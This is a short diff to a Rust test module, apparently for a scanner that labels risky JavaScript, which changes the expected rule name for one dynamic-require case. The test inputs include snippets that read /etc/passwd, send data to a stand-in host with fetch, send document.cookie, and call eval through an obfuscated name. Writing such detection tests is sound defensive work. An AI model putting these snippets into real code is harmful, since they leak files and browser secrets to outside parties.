@@ -157,7 +157,7 @@ mod tests {
                 ("import fs from 'fs'", "js_module"),
                 ("import https from \"https\"", "js_network_module"),
                 ("await import(name)", "js_dynamic_import"),
-                ("require('f' + 's')", "js_module_or_dynamic"),
+                ("require('f' + 's')", "js_dynamic_import"),
                 ("fs.readFileSync('/etc/passwd')", "js_files"),
                 ("fetch('https://x.example/?d=' + d)", "js_network"),
                 ("globalThis['ev' + 'al']('1')", "js_global_by_name"),
@@ -166,8 +166,7 @@ mod tests {
                 ("send(document.cookie)", "js_page_secrets"),
                 ("String.fromCharCode(97)", "js_decoded_text"),
                 ("x.innerHTML = y", "js_handler"),
-            ]
-            .map(|(text, rule)| (text, if rule == "js_module_or_dynamic" { "js_dynamic_import" } else { rule })),
+            ],
         );
     }
 }
